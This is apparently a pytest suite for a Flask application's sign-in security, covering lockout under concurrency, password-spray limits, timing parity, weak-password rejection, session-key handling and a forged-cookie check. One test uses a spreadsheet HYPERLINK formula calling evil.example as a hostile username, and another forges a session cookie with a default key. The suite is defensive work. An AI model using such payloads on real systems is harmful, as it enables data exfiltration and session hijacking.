"""Sign-in against an attacker: lockout that holds under concurrency and per address,
no timing difference between known and unknown users, no common passwords, capped
names, and a session key nobody else knows."""

from __future__ import annotations

import os
import stat
import statistics
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from argon2 import PasswordHasher
from flask import Flask

from auth import passwords
from auth.audit import query_audit
from auth.passwords import password_problem
from auth.users import USERNAME_MAX, create_user
from data.settings import Settings

PASSWORD = "Lock-pass-6604"


def _client(server: Flask, address: str) -> Any:
    client = server.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client


def test_twenty_concurrent_wrong_passwords_evaluate_at_most_five(app_server: Flask,
                                                                  settings: Settings) -> None:
    create_user(settings.users_db, username="race01", display_name="并发", password=PASSWORD,
                scope="company", pages={"pnl-auto-cube"}, must_change_password=False)
    start = threading.Barrier(20)
    codes: list[int] = []

    def attempt(i: int) -> None:
        client = _client(app_server, f"10.20.0.{i + 1}")
        start.wait()
        codes.append(client.post("/login", data={"username": "race01",
                                                 "password": f"wrong-{i}"}).status_code)

    threads = [threading.Thread(target=attempt, args=(i,)) for i in range(20)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    evaluated = codes.count(401)
    assert len(codes) == 20 and evaluated <= settings.login_max_failures
    assert codes.count(429) == 20 - evaluated
    # Locked now: even the right password is refused.
    right = _client(app_server, "10.20.1.1").post("/login", data={"username": "race01",
                                                                  "password": PASSWORD})
    assert right.status_code == 429 and "锁定" in right.text


def test_one_address_cannot_try_many_users(app_server: Flask, settings: Settings) -> None:
    client = _client(app_server, "10.30.0.7")
    codes = [client.post("/login", data={"username": f"spray{i:03d}",
                                         "password": "Guess-1234"}).status_code
             for i in range(settings.login_max_failures_per_address + 3)]
    assert codes[:settings.login_max_failures_per_address] == \
        [401] * settings.login_max_failures_per_address
    assert codes[-3:] == [429] * 3
    locked = client.post("/login", data={"username": "gm", "password": "demo-pass-2026"})
    assert locked.status_code == 429 and "本机地址" in locked.text
    assert _client(app_server, "10.30.0.8").post(
        "/login", data={"username": "gm", "password": "demo-pass-2026"}).status_code == 302


def _timed(server: Flask, username: str, address: str, n: int = 6) -> float:
    client = _client(server, address)
    times = []
    # The thread's own CPU time: what the sign-in computes, unmoved by other processes
    # competing for the machine (the hash runs in this thread).
    for _ in range(n):
        t0 = time.thread_time()
        assert client.post("/login", data={"username": username,
                                           "password": "Wrong-pass-0"}).status_code == 401
        times.append(time.thread_time() - t0)
    return statistics.median(times)


@pytest.fixture
def product_hash_cost() -> Iterator[None]:
    """The product's own argon2 cost (the suite runs on cheap hashes)."""
    cheap = passwords.use_hasher(PasswordHasher())
    yield
    passwords.use_hasher(cheap)


@pytest.mark.usefixtures("product_hash_cost")
def test_a_known_and_an_unknown_user_take_the_same_time(app_server: Flask,
                                                       settings: Settings) -> None:
    fast = replace(settings, login_fail_delay=0.0, login_max_failures=100)
    from app import create_app

    server = create_app(fast).server
    create_user(settings.users_db, username="timing01", display_name="计时", password=PASSWORD,
                scope="company", pages={"pnl-auto-cube"}, must_change_password=False)
    known = _timed(server, "timing01", "10.40.0.1")
    unknown = _timed(server, "nobody-here", "10.40.0.2")
    # The hash check is most of a failed sign-in (tens of ms); both pay it. Without the
    # dummy check an unknown user answered in a twentieth of the time.
    assert known > 0.01
    assert 0.5 < unknown / known < 2, (known, unknown)


@pytest.mark.parametrize("weak", ["password1", "P@ssw0rd1", "abc12345", "qwer1234",
                                  "12345678a", "woaini520", "aaaa1111", "admin2026"])
def test_common_and_too_simple_passwords_are_refused(weak: str) -> None:
    problem = password_problem(weak)
    assert problem is not None and "密码" in problem


def test_a_good_password_is_accepted() -> None:
    assert password_problem("Kx9-mbt-2026") is None
    assert password_problem("春天-Lemon-47") is None


def test_password1_is_refused_at_the_password_change(app_server: Flask,
                                                     settings: Settings) -> None:
    create_user(settings.users_db, username="weakpw01", display_name="弱密码",
                password=PASSWORD, scope="company", pages={"pnl-auto-cube"},
                must_change_password=True)
    client = _client(app_server, "10.50.0.1")
    client.post("/login", data={"username": "weakpw01", "password": PASSWORD})
    resp = client.post("/change-password", data={"old_password": PASSWORD,
                                                 "new_password": "password1",
                                                 "new_password_again": "password1"})
    assert resp.status_code == 400 and "过于常见" in resp.text


def test_a_huge_sign_in_name_is_cut_before_it_is_audited(app_server: Flask,
                                                         settings: Settings) -> None:
    name = '=HYPERLINK("http://evil.example/?x="&A1,"x")' * 200
    resp = _client(app_server, "10.60.0.1").post("/login", data={"username": name,
                                                                 "password": "x1234567"})
    assert resp.status_code == 401
    logged = [e["username"] for e in query_audit(settings.users_db, event="login_failed")
              if e["ip"] == "10.60.0.1"]
    assert logged and all(len(u) <= USERNAME_MAX for u in logged)


def test_without_a_key_one_is_made_once_and_shared(settings: Settings, tmp_path: Path) -> None:
    from app import create_app

    own = replace(settings, users_path=tmp_path / "users.sqlite", secret_key=None)
    first = create_app(own).server.config["SECRET_KEY"]
    second = create_app(own).server.config["SECRET_KEY"]
    key_file = tmp_path / "session-secret.key"
    assert first == second and len(first) >= 32 and key_file.read_text().strip() == first
    assert stat.S_IMODE(os.stat(key_file).st_mode) == 0o600
    assert first != "dev-secret-change-me"
    other = replace(own, users_path=tmp_path / "elsewhere" / "users.sqlite")
    assert create_app(other).server.config["SECRET_KEY"] != first


@pytest.mark.parametrize(("key", "production"), [
    ("", False), ("dev-secret-change-me", False), ("short", True), (None, True)])
def test_empty_short_or_missing_keys_are_refused(settings: Settings, tmp_path: Path,
                                                 key: str | None, production: bool) -> None:
    from app import create_app

    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        create_app(replace(settings, users_path=tmp_path / "u.sqlite", secret_key=key,
                           production=production))


def test_an_explicit_long_key_is_used(settings: Settings, tmp_path: Path) -> None:
    from app import create_app

    key = "k" * 16 + "-explicit-key-for-this-test-0123"
    server = create_app(replace(settings, users_path=tmp_path / "u.sqlite", secret_key=key,
                                production=True)).server
    assert server.config["SECRET_KEY"] == key
    assert not (tmp_path / "session-secret.key").exists()


def test_a_forged_cookie_signed_with_the_old_public_key_is_refused(
        app_server: Flask, settings: Settings) -> None:
    from flask.sessions import SecureCookieSessionInterface

    from auth.users import get_user

    admin = get_user(settings.users_db, username="admin")
    assert admin is not None

    forger = Flask("forger")
    forger.secret_key = "dev-secret-change-me"
    serializer = SecureCookieSessionInterface().get_signing_serializer(forger)
    assert serializer is not None
    cookie = serializer.dumps({"_user_id": str(admin.user_id), "_fresh": True})
    client = app_server.test_client()
    client.set_cookie("session", cookie)
    assert client.get("/api/reports").status_code == 401
    assert client.get("/export/admin-audit.csv").status_code == 401
